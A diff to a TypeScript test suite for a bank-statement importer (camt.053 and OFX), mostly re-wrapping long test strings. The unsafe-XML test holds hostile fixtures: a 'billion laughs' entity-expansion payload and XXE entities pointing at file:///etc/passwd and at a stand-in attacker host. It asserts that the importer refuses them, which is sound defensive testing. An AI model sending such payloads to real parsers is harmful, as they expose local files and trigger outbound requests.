@@ -165,43 +165,51 @@ describeEachDialect(
       );
     });
 
-    it('refuses a file whose second statement does not reconcile when asked, writing nothing of the first either; by default imports it with the difference shown', async () => {
-      const target = await account(store(), 'EUR', 'DE02 1203 0000 0000 2020 51');
-      const bytes = camt053([
-        { opening: '100.00', closing: '150.00', entries: [['50.00', 'CRDT', 'R1']] },
-        {
-          opening: '150.00',
-          closing: '140.00',
-          entries: [
-            ['20.00', 'DBIT', 'R2'],
-            ['5.00', 'CRDT', 'R3'],
+    it(
+      'refuses a file whose second statement does not reconcile when asked, writing nothing of the first either; by default imports it with the ' +
+        'difference shown',
+      async () => {
+        const target = await account(store(), 'EUR', 'DE02 1203 0000 0000 2020 51');
+        const bytes = camt053([
+          { opening: '100.00', closing: '150.00', entries: [['50.00', 'CRDT', 'R1']] },
+          {
+            opening: '150.00',
+            closing: '140.00',
+            entries: [
+              ['20.00', 'DBIT', 'R2'],
+              ['5.00', 'CRDT', 'R3'],
+            ],
+          },
+        ]);
+        const refusal = await expectRefusal(
+          store(),
+          { account: target, bytes, options: { refuseUnbalanced: true } },
+          'unbalanced',
+          /--refuse-unbalanced/,
+          new RegExp(
+            String.raw`<Stmt> at line \d+ \(Stmt 2, Id S1\): opening balance 150\.00 EUR .* plus the 2 ` +
+              String.raw`entries \(-15\.00 EUR\) is 135\.00 EUR, but the closing balance is 140\.00 EUR .` +
+              String.raw`*: 5\.00 EUR unexplained`,
+          ),
+        );
+        assert.equal(refusal.problems.length, 1);
+        const report = await importStatement(store(), { organisation: ORG_ROW!, account: target, fileName: 's.xml', bytes, options: { rate: '0.85' } });
+        assert.deepEqual(
+          report.statements.map((s) => [s.balances.check, s.balances.computedClosing, s.balances.statementClosing, s.balances.difference]),
+          [
+            ['reconciled', 15_000, 15_000, 0],
+            ['unbalanced_allowed', 13_500, 14_000, 500],
           ],
-        },
-      ]);
-      const refusal = await expectRefusal(
-        store(),
-        { account: target, bytes, options: { refuseUnbalanced: true } },
-        'unbalanced',
-        /--refuse-unbalanced/,
-        /<Stmt> at line \d+ \(Stmt 2, Id S1\): opening balance 150\.00 EUR .* plus the 2 entries \(-15\.00 EUR\) is 135\.00 EUR, but the closing balance is 140\.00 EUR .*: 5\.00 EUR unexplained/,
-      );
-      assert.equal(refusal.problems.length, 1);
-      const report = await importStatement(store(), { organisation: ORG_ROW!, account: target, fileName: 's.xml', bytes, options: { rate: '0.85' } });
-      assert.deepEqual(
-        report.statements.map((s) => [s.balances.check, s.balances.computedClosing, s.balances.statementClosing, s.balances.difference]),
-        [
-          ['reconciled', 15_000, 15_000, 0],
-          ['unbalanced_allowed', 13_500, 14_000, 500],
-        ],
-      );
-      assert.equal(report.new, 3);
-      // the account counts from the first statement's opening; the second's own lines leave 5.00 unexplained, from its first day
-      assert.equal(report.accountBalance, 13_500);
-      assert.deepEqual(
-        [report.balanceState.incompleteFrom, report.balanceState.unexplained],
-        [report.statements[1]!.period.from ?? report.balanceState.problems[0]!.from, 500],
-      );
-    });
+        );
+        assert.equal(report.new, 3);
+        // the account counts from the first statement's opening; the second's own lines leave 5.00 unexplained, from its first day
+        assert.equal(report.accountBalance, 13_500);
+        assert.deepEqual(
+          [report.balanceState.incompleteFrom, report.balanceState.unexplained],
+          [report.statements[1]!.period.from ?? report.balanceState.problems[0]!.from, 500],
+        );
+      },
+    );
 
     it('refuses an oversized file before reading it', async () => {
       const target = await account(store(), 'GBP');
@@ -229,7 +237,8 @@ describeEachDialect(
         '  <!ENTITY lol "lol">',
         ...Array.from({ length: 9 }, (_, i) => `  <!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`),
         ']>',
-        '<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt><Stmt><Ntry><AddtlNtryInf>&lol9;</AddtlNtryInf></Ntry></Stmt></BkToCstmrStmt></Document>',
+        '<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt><Stmt><Ntry><AddtlNtryInf>&lol9;</AddtlNtryInf></Ntry></Stmt><' +
+          '/BkToCstmrStmt></Document>',
       ].join('\n');
       await expectRefusal(
         store(),
@@ -237,15 +246,19 @@ describeEachDialect(
         'unsafe_xml',
         /line 2: the file has a document type declaration \(<!DOCTYPE …>\) declaring entities \(<!ENTITY …>\)/,
       );
-      const external = `<?xml version="1.0"?>
+      const external =
+        `<?xml version="1.0"?>
 <!DOCTYPE Document [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
-<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt><Stmt><Ntry><AddtlNtryInf>&xxe;</AddtlNtryInf></Ntry></Stmt></BkToCstmrStmt></Document>`;
+<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt><Stmt><Ntry><AddtlNtryInf>&xxe;</AddtlNtryInf></Ntry></Stmt></BkToCstmr` +
+        `Stmt></Document>`;
       await expectRefusal(store(), { account: target, bytes: Buffer.from(external) }, 'unsafe_xml', /line 2: .*declaring entities/);
       // the same in an OFX 2 file, and given the format explicitly
-      const ofx2 = `<?xml version="1.0" encoding="UTF-8"?>
+      const ofx2 =
+        `<?xml version="1.0" encoding="UTF-8"?>
 <?OFX OFXHEADER="200" VERSION="200" SECURITY="NONE" OLDFILEUID="NONE" NEWFILEUID="NONE"?>
 <!DOCTYPE OFX [ <!ENTITY xxe SYSTEM "http://attacker.example/x"> ]>
-<OFX><BANKMSGSRSV1><STMTTRNRS><STMTRS><CURDEF>EUR</CURDEF><BANKTRANLIST><STMTTRN><TRNTYPE>OTHER</TRNTYPE><DTPOSTED>20260101</DTPOSTED><TRNAMT>-1.00</TRNAMT><FITID>1</FITID><NAME>&xxe;</NAME></STMTTRN></BANKTRANLIST></STMTRS></STMTTRNRS></BANKMSGSRSV1></OFX>`;
+<OFX><BANKMSGSRSV1><STMTTRNRS><STMTRS><CURDEF>EUR</CURDEF><BANKTRANLIST><STMTTRN><TRNTYPE>OTHER</TRNTYPE><DTPOSTED>20260101</DTPOSTED><TRNAMT>-1.00</TR` +
+        `NAMT><FITID>1</FITID><NAME>&xxe;</NAME></STMTTRN></BANKTRANLIST></STMTRS></STMTTRNRS></BANKMSGSRSV1></OFX>`;
       await expectRefusal(store(), { account: target, bytes: Buffer.from(ofx2), options: { format: 'ofx' } }, 'unsafe_xml', /line 3: .*declaring entities/);
     });
 
